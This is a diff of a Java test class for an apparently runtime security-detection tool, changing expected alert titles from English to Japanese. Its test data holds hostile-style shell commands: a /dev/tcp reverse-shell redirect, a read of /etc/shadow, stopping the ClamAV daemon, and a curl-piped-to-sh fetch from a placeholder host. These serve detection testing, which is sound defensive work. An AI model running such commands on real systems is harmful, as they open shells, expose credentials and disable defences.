@@ -28,10 +28,10 @@ class RuleWatchTest {
     @CsvSource(
             delimiter = '#',
             value = {
-                "A reverse shell#(exec 3<>/dev/tcp/127.0.0.1/9); cat; true",
-                "Stored credentials are read#head -c1 /etc/shadow >/dev/null; cat; true",
-                "The defence is switched off#: systemctl stop clamav-daemon; cat; true",
-                "Something fetched is run at once#: curl http://x.invalid/a | sh; cat; true"
+                "外部から操作されるシェル#(exec 3<>/dev/tcp/127.0.0.1/9); cat; true",
+                "認証情報の読み出しを命じるコマンド#head -c1 /etc/shadow >/dev/null; cat; true",
+                "防御の停止を命じるコマンド#: systemctl stop clamav-daemon; cat; true",
+                "取得したものをそのまま実行#: curl http://x.invalid/a | sh; cat; true"
             })
     void begun(String title, String script) throws Exception {
         assertThat(titles(new ProcessBuilder("bash", "-c", script))).contains(title);
@@ -44,8 +44,7 @@ class RuleWatchTest {
                 Path.of("/bin/cat"), Files.createTempFile("harmless", ""), StandardCopyOption.REPLACE_EXISTING);
         assertThat(tool.toFile().setExecutable(true)).isTrue();
         try {
-            assertThat(titles(new ProcessBuilder(tool.toString())))
-                    .contains("A program runs from a place where everybody may write");
+            assertThat(titles(new ProcessBuilder(tool.toString()))).contains("利用者が書ける場所からのプログラムの実行");
         } finally {
             Files.delete(tool);
         }
